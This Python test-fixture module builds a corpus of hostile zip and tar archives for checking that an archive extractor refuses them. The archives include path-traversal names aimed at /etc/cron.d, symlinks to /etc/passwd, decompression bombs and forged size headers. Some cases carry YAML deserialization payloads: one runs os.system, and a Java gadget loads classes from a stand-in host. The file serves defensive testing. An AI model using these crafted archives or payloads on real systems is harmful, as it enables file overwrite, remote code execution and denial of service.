"""Archives that mean harm, or look as if they did, each with what has to become of it.

`refused` is the reason that a registration must name; where it is None, the archive is harmless: `files` is what it
unpacks to, nothing else and nowhere else.  Quotas are those of `SMALL`, so that bombs stay small, too.
"""

from __future__ import annotations

import gzip
import io
import json
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field

from tserve.archive.quota import Quota

SMALL = Quota(entries=1000, size=8, ratio=200)
MOST_BYTES = 8 << 20
GOOD = "good.py"
MANIFEST = "MAR-INF/MANIFEST.json"
Files = Mapping[str, bytes]


@dataclass(frozen=True)
class Hostile:
    """One archive.  `quota` where that of the corpus is not the one to meet."""

    name: str
    kind: str  # zip or tar
    make: Callable[[], bytes]
    refused: str | None = None
    files: Files = field(default_factory=dict)
    quota: Quota = SMALL
    slow: bool = False  # computes up to its limit, and would take hours without one


# -- zip files, byte by byte


@dataclass(frozen=True)
class Entry:
    """An entry as both of its headers have it; what is None is the truth."""

    name: bytes
    data: bytes = b"x"
    method: int = zipfile.ZIP_STORED
    flags: int = 0x800
    mode: int = stat.S_IFREG | 0o644
    crc: int | None = None
    size: int | None = None  # unpacked, in the directory
    packed: int | None = None  # in the directory
    own_size: int | None = None  # unpacked, in its own header
    own_name: bytes | None = None
    extra: bytes = b""
    own_extra: bytes = b""
    at: int | None = None  # where the directory says that it is
    copies: int = 1  # of it in the directory


def zip_of(
    *entries: Entry | str | bytes,
    comment: bytes = b"",
    before: bytes = b"",
    count: int | None = None,
    disk: int = 0,
    directory_at: int | None = None,
) -> bytes:
    """A zip file with these entries behind a good one."""
    body, directory = bytearray(before), bytearray()
    total = 0
    for given in (GOOD, *entries):
        entry = given if isinstance(given, Entry) else Entry(given.encode() if isinstance(given, str) else given)
        packed = entry.data
        if entry.method == zipfile.ZIP_DEFLATED:
            squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = squeeze.compress(entry.data) + squeeze.flush()
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        size = len(entry.data) if entry.size is None else entry.size
        csize = len(packed) if entry.packed is None else entry.packed
        own_size = len(entry.data) if entry.own_size is None else entry.own_size
        own_name = entry.name if entry.own_name is None else entry.own_name
        at = len(body) - len(before) if entry.at is None else entry.at
        common = (20, entry.flags, entry.method, 0, 0x21, crc)
        body += struct.pack("<4s5H3L2H", b"PK\3\4", *common, len(packed), own_size, len(own_name), len(entry.own_extra))
        body += own_name + entry.own_extra + packed
        for _ in range(entry.copies):
            total += 1
            directory += struct.pack(
                "<4s6H3L5H2L",
                b"PK\1\2",
                3 << 8 | 20,
                *common,
                csize,
                size,
                len(entry.name),
                len(entry.extra),
                0,
                0,
                0,
                entry.mode << 16,
                at,
            )
            directory += entry.name + entry.extra
    number = min(total, 0xFFFF) if count is None else count
    start = len(body) - len(before) if directory_at is None else directory_at
    end = struct.pack("<4s4H2LH", b"PK\5\6", disk, disk, number, number, len(directory), start, len(comment))
    return bytes(body + directory + end + comment)


def quoted_overlap(copies: int, kernel: int) -> bytes:
    """Many entries that share one kernel of packed zeros: each is small, together they are not."""
    entry = Entry(b"kernel", bytes(kernel), method=zipfile.ZIP_DEFLATED, copies=copies)
    return zip_of(entry)


def nested_overlap() -> bytes:
    """The second entry lies within the first one's data, and is sound by itself."""
    inner = zip_of(Entry(b"inner", b"i" * 10))
    start = inner.index(b"PK\3\4", 10)
    own = inner[start : inner.index(b"PK\1\2")]
    outer = Entry(b"outer", own)
    first = 30 + len(GOOD) + 1
    at = first + 30 + len(b"outer")
    return zip_of(outer, Entry(b"inner", b"i" * 10, at=at))


def zip64_size(size: int) -> Entry:
    return Entry(b"big", b"x", size=0xFFFFFFFF, extra=struct.pack("<HHQ", 1, 8, size))


def many_in_zip(number: int) -> bytes:
    return zip_of(*(Entry(b"f%d" % n, b"") for n in range(number)))


def encrypted() -> bytes:
    return zip_of(Entry(b"secret", b"0123456789abcdef", flags=0x801))


def good_zip() -> bytes:
    """As the library writes it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(GOOD, b"x")
    return made.getvalue()


def with_manifest(content: bytes, **others: bytes) -> bytes:
    return zip_of(Entry(MANIFEST.encode(), content), *(Entry(name.encode(), data) for name, data in others.items()))


def manifest(**model: object) -> bytes:
    return json.dumps({"runtime": "python", "model": {"modelName": "m", **model}}).encode()


def with_config(content: bytes) -> bytes:
    return with_manifest(manifest(configFile="config.yaml"), **{"config.yaml": content})


# -- tarballs


@dataclass(frozen=True)
class Member:
    """`size` in place of the length of `data`, as the header's twelve bytes."""

    name: str
    data: bytes = b"x"
    type: bytes = tarfile.REGTYPE
    link: str = ""
    mode: int = 0o644
    size: bytes | None = None
    pax: Mapping[str, str] = field(default_factory=dict)


def tar_of(*members: Member | str, packed: bool = True, form: int = tarfile.PAX_FORMAT) -> bytes:
    """A tarball with these members behind a good one; it ends as a tarball should."""
    made = bytearray()
    for given in (f"top/{GOOD}", *members):
        member = given if isinstance(given, Member) else Member(given)
        info = tarfile.TarInfo(member.name)
        info.type, info.linkname, info.mode = member.type, member.link, member.mode
        info.size = len(member.data) if member.size is None else 0
        info.pax_headers = dict(member.pax)
        header = bytearray(info.tobuf(form, "utf-8", "surrogateescape"))
        if member.size is not None:
            header[-512 + 124 : -512 + 136] = member.size
            header[-512 + 148 : -512 + 156] = b" " * 8
            header[-512 + 148 : -512 + 156] = b"%06o\0 " % sum(header[-512:])
        made += header + member.data + bytes(-len(member.data) % 512)
    made += bytes(1024)
    return gzip.compress(bytes(made), 9, mtime=0) if packed else bytes(made)


def pax_record(key: str, value: bytes) -> bytes:
    """The data of an extended header with one record, whatever the value."""
    body = b" " + key.encode() + b"=" + value + b"\n"
    length = len(body)
    while length != len(str(length)) + len(body):
        length = len(str(length)) + len(body)
    return str(length).encode() + body


def extended(data: bytes, kind: bytes = tarfile.XHDTYPE) -> Member:
    return Member("top/PaxHeader", data, type=kind)


def long_name(name: bytes) -> Member:
    return Member("././@LongLink", name + b"\0", type=tarfile.GNUTYPE_LONGNAME)


def sparse(real: int) -> Member:
    """In the form of PAX 1.0: a map, and a file that is one hole."""
    data = b"1\n%d\n0\n" % real
    pax = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "top/hole"}
    return Member("top/hole", data.ljust(512, b"\0"), pax=pax | {"GNU.sparse.realsize": str(real)})


def gzip_bomb(start: bytes, unit: bytes, times: int) -> bytes:
    """A gzip file of `start` and many times `unit`, cut off; made without packing them all."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = squeeze.compress(start) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"", mtime=0)[:10] + head + (squeeze.compress(unit) + squeeze.flush(zlib.Z_FULL_FLUSH)) * times


def old_sparse_for_ever(megabytes: int) -> bytes:
    """A header in GNU's old form whose map of holes goes on in block after block."""
    start = tar_of(Member("top/s", b"", tarfile.GNUTYPE_SPARSE), packed=False, form=tarfile.GNU_FORMAT)[:-1024]
    header = bytearray(start[-512:])
    header[482] = 1  # another block follows
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    block = bytes(504) + b"\1" + bytes(7)
    return gzip_bomb(start[:-512] + header, block * 2048, megabytes)


def global_records(number: int, members: int) -> bytes:
    """Each member gets a copy of all global records."""
    records = extended(b"".join(pax_record(f"key{n}", b"1") for n in range(number)), tarfile.XGLTYPE)
    return tar_of(records, *(Member(f"top/{n % 9}", b"", pax={"comment": "x"}) for n in range(members)))


def zeros(length: int) -> bytes:
    return bytes(length)


# -- the corpus

GOOD_ONLY: Files = {GOOD: b"x"}
_PARENTS = {
    "parent": "../evil",
    "parent-deep": "a/b/../../../evil",
    "parent-at-the-end": "a/..",
    "parent-behind-a-dot": "./../evil",
    "parent-behind-the-root": "/../evil",
    "parent-inside": "a/../b",
    "parent-doubled-slashes": "a//..//..//evil",
    "parent-many": "../" * 30 + "etc/cron.d/evil",
    "backslash-parent": "..\\evil",
    "backslash-parent-deep": "a\\..\\..\\evil",
    "backslash-parent-at-the-end": "a\\..",
    "backslash-mixed": "a/..\\evil",
    "backslash-root": "\\evil",
    "drive": "C:\\evil",
    "drive-slash": "c:/evil",
    "drive-alone": "Z:",
    "share": "\\\\host\\share\\evil",
    "device-path": "\\\\?\\C:\\evil",
}
_FROM_THE_ROOT = ("backslash-root", "drive", "drive-slash", "drive-alone", "share", "device-path")
# Names that only look like a way out: they are files of that name.
_LITERAL = {
    "encoded-parent": "%2e%2e%2fevil",
    "full-width-parent": "\uff0e\uff0e/evil",
    "two-dot-leader": "\u2025/evil",
    "division-slash": "..\u2215evil",
    "three-dots": ".../evil",
    "home": "~/evil",
    "variable": "$HOME/evil",
    "newline": "a\nb",
    "escape-sequence": "\x1b[2Jx",
    "right-to-left": "\u202eyp.live",
    "blank": " ",
    "dash": "-rf",
    "reserved-on-windows": "NUL",
    "colon-stream": "file:stream",
}
_BOMB = zeros(MOST_BYTES + 1)
_DEEP = b"[" * 100_000
_ALIASES = b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(20)
)


def _everywhere() -> Iterator[Hostile]:
    """What both kinds of archives can hold."""

    def both(name: str, entry: str, content: bytes = b"evil") -> Iterator[tuple[str, Callable[[], bytes]]]:
        # What counts from the root of a drive does so at the start of the whole name only.
        member = entry if name in _FROM_THE_ROOT else f"top/{entry}"
        yield f"zip-{name}", lambda: zip_of(Entry(entry.encode(), content))
        yield f"tar-{name}", lambda: tar_of(Member(member, content))

    for name, entry in _PARENTS.items():
        for each, make in both(name, entry):
            yield Hostile(each, each[:3], make, "unsafe_entry")
    for name, entry in _LITERAL.items():
        for each, make in both(name, entry, b"l"):
            yield Hostile(each, each[:3], make, files={**GOOD_ONLY, entry: b"l"})
    for each, make in both("absolute", "/etc/evil", b"l"):
        yield Hostile(each, each[:3], make, files={**GOOD_ONLY, "etc/evil": b"l"})
    for each, make in both("name-of-300-bytes", "n" * 300):
        yield Hostile(each, each[:3], make, "unsafe_entry")
    for each, make in both("40-folders-deep", "d/" * 40 + "x"):
        yield Hostile(each, each[:3], make, "unsafe_entry")
    for each, make in both("path-of-2000-bytes", "/".join(["p" * 200] * 10)):
        yield Hostile(each, each[:3], make, "unsafe_entry")


def _zips() -> Iterator[Hostile]:
    def bad(name: str, make: Callable[[], bytes], reason: str, quota: Quota = SMALL) -> Hostile:
        return Hostile(f"zip-{name}", "zip", make, reason, quota=quota)

    def harmless(name: str, make: Callable[[], bytes], files: Files) -> Hostile:
        return Hostile(f"zip-{name}", "zip", make, files=files)

    kinds = {"symlink": stat.S_IFLNK, "fifo": stat.S_IFIFO, "character-device": stat.S_IFCHR}
    kinds |= {"block-device": stat.S_IFBLK, "socket": stat.S_IFSOCK}
    for name, kind in kinds.items():
        yield bad(name, lambda kind=kind: zip_of(Entry(b"link", b"/etc/passwd", mode=kind | 0o777)), "unsafe_entry")
    yield bad(
        "file-through-a-symlink",
        lambda: zip_of(Entry(b"out", b"/tmp", mode=stat.S_IFLNK | 0o777), "out/evil"),
        "unsafe_entry",
    )
    yield bad("nul-in-a-name", lambda: zip_of(b"evil.py\0.txt"), "unsafe_entry")
    yield bad("nul-and-parent", lambda: zip_of(b"a\0/../../evil"), "unsafe_entry")
    yield bad("empty-name", lambda: zip_of(b""), "damaged")
    yield harmless("folder-of-dots", lambda: zip_of(Entry(b"./././", b"")), GOOD_ONLY)
    yield harmless(
        "duplicates", lambda: zip_of(Entry(b"x", b"first"), Entry(b"x", b"second")), {**GOOD_ONLY, "x": b"second"}
    )
    yield harmless(
        "duplicate-by-another-spelling",
        lambda: zip_of(Entry(b"a/x", b"first"), Entry(b"/a//./x", b"second")),
        {**GOOD_ONLY, "a/x": b"second"},
    )
    yield harmless(
        "case-folds",
        lambda: zip_of(Entry(b"Handler.py", b"1"), Entry(b"handler.py", b"2")),
        {**GOOD_ONLY, "Handler.py": b"1", "handler.py": b"2"},
    )
    yield harmless(
        "two-forms-of-a-letter",
        lambda: zip_of(Entry("é".encode(), b"1"), Entry("e\u0301".encode(), b"2")),
        {**GOOD_ONLY, "é": b"1", "e\u0301": b"2"},
    )
    yield bad("file-then-folder", lambda: zip_of("a", "a/b"), "unsafe_entry")
    yield bad("folder-then-file", lambda: zip_of("a/b", "a"), "unsafe_entry")
    yield bad("file-then-the-same-as-a-folder", lambda: zip_of("a", Entry(b"a/", b"")), "unsafe_entry")
    yield bad("100001-entries", lambda: many_in_zip(100_001), "too_many_entries", SMALL._replace(entries=100_000))
    yield bad("1001-folders", lambda: zip_of(*(Entry(b"d%d/" % n, b"") for n in range(1001))), "too_many_entries")
    yield bad("1001-times-nothing", lambda: zip_of(*(Entry(b"./", b"") for _ in range(1001))), "too_many_entries")
    yield bad("count-that-lies", lambda: zip_of(*(str(n) for n in range(1001)), count=1), "too_many_entries")
    yield bad("overlap-quoted", lambda: quoted_overlap(900, 20_000), "overlapping_entries", SMALL._replace(size=64))
    yield bad("overlap-twice-the-same", lambda: zip_of(Entry(b"x", b"1", copies=2)), "overlapping_entries")
    yield bad("overlap-nested", nested_overlap, "overlapping_entries")
    yield bad("overlap-of-the-directory", lambda: zip_of(Entry(b"x", b"1", packed=4000)), "overlapping_entries")
    yield bad(
        "1001-folders-that-no-entry-names",
        lambda: zip_of(*(Entry(b"%d/" % n + b"d/" * 25 + b"x", b"") for n in range(39))),
        "too_many_entries",
    )
    yield bad("bomb", lambda: zip_of(Entry(b"b", _BOMB, zipfile.ZIP_DEFLATED)), "too_large")
    yield bad(
        "bomb-of-many",
        lambda: zip_of(*(Entry(b"b%d" % n, zeros(1 << 20), zipfile.ZIP_DEFLATED) for n in range(9))),
        "too_large",
    )
    yield bad(
        "bomb-that-says-it-is-small", lambda: zip_of(Entry(b"b", _BOMB, zipfile.ZIP_DEFLATED, size=10)), "damaged"
    )
    yield bad(
        "bomb-that-says-it-is-nothing", lambda: zip_of(Entry(b"b", _BOMB, zipfile.ZIP_DEFLATED, size=0)), "damaged"
    )
    yield bad("says-it-is-large", lambda: zip_of(Entry(b"b", b"x", size=4 << 30 - 2)), "too_large")
    yield bad("says-it-is-2-to-the-63", lambda: zip_of(zip64_size(1 << 63)), "too_large")
    yield bad("says-it-is-2-to-the-64-less-1", lambda: zip_of(zip64_size((1 << 64) - 1)), "too_large")
    yield bad("zip64-field-cut", lambda: zip_of(Entry(b"b", size=0xFFFFFFFF, extra=b"\1\0\4\0abcd")), "damaged")
    yield bad("extra-field-cut", lambda: zip_of(Entry(b"b", extra=b"\1\0\xff\xff")), "damaged")
    yield bad("says-it-is-larger", lambda: zip_of(Entry(b"b", b"12345", size=9)), "damaged")
    yield bad("says-it-is-smaller", lambda: zip_of(Entry(b"b", b"12345", size=2)), "damaged")
    yield harmless(
        "own-header-says-it-is-large", lambda: zip_of(Entry(b"b", b"1", own_size=1 << 31)), {**GOOD_ONLY, "b": b"1"}
    )
    yield bad("checksum-that-lies", lambda: zip_of(Entry(b"b", b"12345", crc=1)), "damaged")
    yield bad("two-names", lambda: zip_of(Entry(b"good", own_name=b"../x")), "damaged")
    yield bad("two-names-the-other-way", lambda: zip_of(Entry(b"../x", own_name=b"good")), "unsafe_entry")
    yield bad("directory-elsewhere", lambda: zip_of(directory_at=1 << 30), "damaged")
    yield bad("entry-behind-the-end", lambda: zip_of(Entry(b"x", at=1 << 30)), "damaged")
    yield bad("entry-that-is-none", lambda: zip_of(Entry(b"x", at=3)), "overlapping_entries")
    yield harmless("other-disk", lambda: zip_of(disk=3), GOOD_ONLY)
    yield harmless(
        "nested", lambda: zip_of(Entry(b"in.zip", zip_of("../evil"))), {**GOOD_ONLY, "in.zip": zip_of("../evil")}
    )
    yield bad("encrypted", encrypted, "encrypted")
    yield bad("encrypted-aes", lambda: zip_of(Entry(b"s", bytes(40), method=99, flags=0x801)), "encrypted")
    yield bad("encrypted-strongly", lambda: zip_of(Entry(b"s", bytes(40), flags=0x841)), "encrypted")
    for method, name in (
        (1, "shrunk"),
        (6, "imploded"),
        (9, "deflate64"),
        (12, "bzip2"),
        (14, "lzma"),
        (93, "zstandard"),
    ):
        yield bad(f"method-{name}", lambda method=method: zip_of(Entry(b"s", bytes(40), method)), "unknown_compression")
    yield bad("patch-data", lambda: zip_of(Entry(b"s", flags=0x820)), "damaged")
    for cut in (4, 20, 40, 60, 90):
        yield bad(f"cut-by-{cut}", lambda cut=cut: good_zip()[:-cut], "damaged")
    yield harmless("trailing-garbage", lambda: good_zip() + b"garbage" * 9, GOOD_ONLY)
    yield harmless("comment", lambda: zip_of(comment=b"c" * 65535), GOOD_ONLY)
    yield harmless("end-record-in-the-comment", lambda: zip_of(comment=b"PK\5\6" + bytes(18)), {})
    yield harmless("second-archive-behind-it", lambda: zip_of() + zip_of("later"), {**GOOD_ONLY, "later": b"x"})
    yield harmless("shell-script-in-front", lambda: zip_of(before=b"#!/bin/sh\n"), {})  # no zip file by its first bytes
    yield harmless("setuid", lambda: zip_of(Entry(b"su", mode=stat.S_IFREG | 0o6777)), {**GOOD_ONLY, "su": b"x"})
    yield harmless("mode-0", lambda: zip_of(Entry(b"shut", mode=stat.S_IFREG)), {**GOOD_ONLY, "shut": b"x"})
    yield bad("name-that-is-not-utf-8", lambda: zip_of(b"\xff\xfe"), "damaged")
    yield bad("manifest-is-a-link", lambda: zip_of(Entry(MANIFEST.encode(), b"x", mode=stat.S_IFLNK)), "unsafe_entry")
    for name, content in (
        ("is-deep", b'{"model":' + _DEEP),
        ("is-nested-900-deep", b'{"x": %s%s}' % (b"[" * 900, b"]" * 900)),
        ("is-huge", b" " * (300 << 10) + manifest()),
        ("is-an-infinite-number", b'{"model": {"modelVersion": 1e999}}'),
        ("is-no-object", b"[]"),
        ("has-a-number-of-100000-digits", b'{"model": {"modelVersion": %s}}' % (b"9" * 100_000)),
        ("is-binary", bytes(range(256))),
    ):
        yield bad(f"manifest-{name}", lambda content=content: with_manifest(content), "bad_manifest")
    yield bad("manifest-is-a-folder", lambda: zip_of(Entry(f"{MANIFEST}/".encode(), b"")), "bad_manifest")
    configs = {
        "yaml-object": b"!!python/object/apply:os.system ['touch /tmp/evil']",
        "yaml-java-object": b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h"]]]]',
        "yaml-aliases": _ALIASES,
        "yaml-deep": _DEEP,
        "yaml-binary": bytes(range(256)),
    }
    for name, config in configs.items():
        files = {**GOOD_ONLY, MANIFEST: manifest(configFile="config.yaml"), "config.yaml": config}
        yield harmless(name, lambda config=config: with_config(config), files)


def _tars() -> Iterator[Hostile]:
    def bad(name: str, make: Callable[[], bytes], reason: str, quota: Quota = SMALL) -> Hostile:
        return Hostile(f"tar-{name}", "tar", make, reason, quota=quota)

    def harmless(name: str, make: Callable[[], bytes], files: Files) -> Hostile:
        return Hostile(f"tar-{name}", "tar", make, files=files)

    def slow(name: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(f"tar-{name}", "tar", make, "too_slow", quota=SMALL._replace(size=4096), slow=True)

    kinds = {"symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE}
    kinds |= {"character-device": tarfile.CHRTYPE, "block-device": tarfile.BLKTYPE}
    for name, kind in kinds.items():
        for target, link in (("outside", "/etc/passwd"), ("parent", "../../evil"), ("inside", f"top/{GOOD}")):
            yield bad(
                f"{name}-{target}",
                lambda kind=kind, link=link: tar_of(Member("top/l", b"", kind, link)),
                "unsafe_entry",
            )
    for kind, name in ((tarfile.SYMTYPE, "symlink"), (tarfile.LNKTYPE, "hardlink")):
        yield bad(
            f"file-through-a-{name}",
            lambda kind=kind: tar_of(Member("top/out", b"", kind, "/tmp"), "top/out/evil"),
            "unsafe_entry",
        )
    yield bad(
        "links-in-a-chain",
        lambda: tar_of(Member("top/a", b"", tarfile.SYMTYPE, "b"), Member("top/b", b"", tarfile.SYMTYPE, "/")),
        "unsafe_entry",
    )
    yield bad("parent-that-would-be-cut-off", lambda: tar_of("../evil"), "unsafe_entry")
    yield bad("name-that-is-nothing", lambda: tar_of("top/"), "unsafe_entry")
    yield harmless(
        "1001-times-the-top-is-a-folder",
        lambda: tar_of(*(Member("top", b"", tarfile.DIRTYPE) for _ in range(900))),
        GOOD_ONLY,
    )
    yield bad(
        "1001-folders-that-are-nothing",
        lambda: tar_of(*(Member("./", b"", tarfile.DIRTYPE) for _ in range(1001))),
        "too_many_entries",
    )
    yield bad(
        "100001-entries",
        lambda: tar_of(Member("top", b"", tarfile.DIRTYPE), packed=False)[:-1024][-512:] * 100_001,
        "too_many_entries",
        SMALL._replace(entries=100_000),
    )
    yield harmless("duplicates", lambda: tar_of(Member("t/x", b"first"), Member("t/x", b"2")), {**GOOD_ONLY, "x": b"2"})
    yield bad("file-then-folder", lambda: tar_of("t/a", "t/a/b"), "unsafe_entry")
    yield bad("folder-then-file", lambda: tar_of("t/a/b", "t/a"), "unsafe_entry")
    yield bad("bomb", lambda: tar_of(Member("t/b", _BOMB)), "too_large")
    yield bad(
        "bomb-of-gzip-members",
        lambda: tar_of(Member("t/b", zeros(1 << 20))) + gzip.compress(zeros(64 << 20), mtime=0),
        "too_large",
    )
    yield bad(
        "bomb-behind-the-end", lambda: gzip.compress(tar_of(packed=False) + zeros(64 << 20), mtime=0), "too_large"
    )
    yield bad(
        "bomb-of-long-names",
        lambda: tar_of(*(each for _ in range(20) for each in (long_name(b"n" * 1_000_000), "top/x"))),
        "unsafe_entry",
    )
    yield bad(
        "bomb-of-records",
        lambda: tar_of(
            *(each for n in range(20) for each in (extended(pax_record("comment", zeros(1_000_000))), f"top/{n}"))
        ),
        "too_large",
    )
    yield bad(
        "bomb-of-global-records",
        lambda: tar_of(*[extended(pax_record("comment", zeros(1_000_000)), tarfile.XGLTYPE)] * 20, "top/x"),
        "too_large",
    )
    yield bad(
        "records-in-a-row",
        lambda: tar_of(*(extended(pax_record("a", b"b")) for _ in range(5000)), "top/x"),
        "not_an_archive",
    )
    yield bad(
        "record-of-2-gigabytes",
        lambda: tar_of(Member("p", b"", tarfile.XHDTYPE, size=b"17777777777\0")),
        "not_an_archive",
    )
    yield bad(
        "long-name-of-8-gigabytes",
        lambda: tar_of(Member("n", b"", tarfile.GNUTYPE_LONGNAME, size=b"77777777777\0")),
        "not_an_archive",
    )
    yield bad(
        "record-of-2-gigabytes-of-zeros",
        lambda: gzip_bomb(
            tar_of(Member("p", b"", tarfile.XHDTYPE, size=b"17777777777\0"), packed=False)[:-1024], zeros(1 << 20), 2048
        ),
        "not_an_archive",
    )
    yield slow("cve-2024-6232-digits-without-end", lambda: tar_of(extended(b"1" * 300_000), "top/x"))
    yield slow("holes-without-end", lambda: old_sparse_for_ever(256))
    yield slow("copies-of-global-records", lambda: global_records(60_000, 400))
    yield harmless("name-that-is-not-utf-8", lambda: tar_of(Member("top/\udcff")), {**GOOD_ONLY, "\udcff": b"x"})
    yield bad("parent-in-a-record", lambda: tar_of(Member("top/x", pax={"path": "../../evil"})), "unsafe_entry")
    yield bad(
        "nul-in-a-record", lambda: tar_of(extended(pax_record("path", b"top/evil\0.txt")), "top/x"), "unsafe_entry"
    )
    yield bad("parent-in-a-long-name", lambda: tar_of(long_name(b"top/../../evil"), "top/x"), "unsafe_entry")
    yield bad(
        "link-in-a-record",
        lambda: tar_of(Member("top/l", b"", tarfile.SYMTYPE, "x", pax={"linkpath": "/etc/passwd"})),
        "unsafe_entry",
    )
    yield bad(
        "size-in-a-record", lambda: tar_of(Member("top/x", b"12345", pax={"size": str(1 << 62)})), "not_an_archive"
    )
    yield bad(
        "size-in-a-record-is-negative",
        lambda: tar_of(Member("top/x", b"12345", pax={"size": "-512"})),
        "not_an_archive",
    )
    yield bad(
        "size-in-a-record-is-none", lambda: tar_of(Member("top/x", b"12345", pax={"size": "many"})), "not_an_archive"
    )
    yield bad("size-is-negative", lambda: tar_of(Member("top/x", b"", size=b"\xff" * 11 + b"\x00")), "not_an_archive")
    yield bad(
        "size-is-8-exabytes",
        lambda: tar_of(Member("top/x", b"", size=b"\x80\0\0\0\x7f" + b"\xff" * 7)),
        "not_an_archive",
    )
    yield bad("size-is-larger", lambda: tar_of(Member("top/x", b"", size=b"00000100000\0")), "not_an_archive")
    yield bad("size-is-no-number", lambda: tar_of(Member("top/x", b"", size=b"9z9z9z9z9z9\0")), "not_an_archive")
    yield bad("hole-of-4-gigabytes", lambda: tar_of(sparse(4 << 30)), "too_large")
    yield harmless("hole", lambda: tar_of(sparse(5000)), {**GOOD_ONLY, "hole": bytes(5000)})
    yield bad("unknown-type", lambda: tar_of(Member("top/x", b"", b"Z")), "unsafe_entry")
    yield bad(
        "checksum-that-lies", lambda: tar_of("top/xy", packed=False).replace(b"top/xy", b"top/zz"), "not_an_archive"
    )
    for cut in (600, 1100, 1600):
        yield bad(
            f"cut-by-{cut}", lambda cut=cut: tar_of(Member("top/x", bytes(600)), packed=False)[:-cut], "not_an_archive"
        )
    yield bad("gzip-cut", lambda: tar_of()[:-9], "not_an_archive")
    yield bad("gzip-checksum", lambda: tar_of()[:-8] + bytes(8), "not_an_archive")
    yield bad("gzip-garbage-behind", lambda: tar_of() + b"garbage", "not_an_archive")
    yield bad("gzip-in-gzip", lambda: gzip.compress(tar_of(), mtime=0), "not_an_archive")
    yield bad("zip-in-gzip", lambda: gzip.compress(good_zip(), mtime=0), "not_an_archive")
    yield bad("zip-by-another-name", good_zip, "not_an_archive")
    yield bad("xz", lambda: b"\xfd7zXZ\0" + bytes(600), "not_an_archive")
    yield bad("bzip2", lambda: b"BZh9" + bytes(600), "not_an_archive")
    yield bad("nothing", lambda: b"", "not_an_archive")
    yield harmless("trailing-garbage", lambda: tar_of(packed=False) + b"garbage" * 99, GOOD_ONLY)
    yield harmless("setuid", lambda: tar_of(Member("top/su", mode=0o6777)), {**GOOD_ONLY, "su": b"x"})
    yield harmless(
        "folder-nobody-may-enter",
        lambda: tar_of(Member("top/d", b"", tarfile.DIRTYPE, mode=0), "top/d/x"),
        {**GOOD_ONLY, "d/x": b"x"},
    )
    yield harmless(
        "nested", lambda: tar_of(Member("top/in.tar", tar_of("../evil"))), {**GOOD_ONLY, "in.tar": tar_of("../evil")}
    )


def _corpus() -> Sequence[Hostile]:
    found = [*_everywhere(), *_zips(), *_tars()]
    assert len({each.name for each in found}) == len(found)
    return found


CORPUS = _corpus()
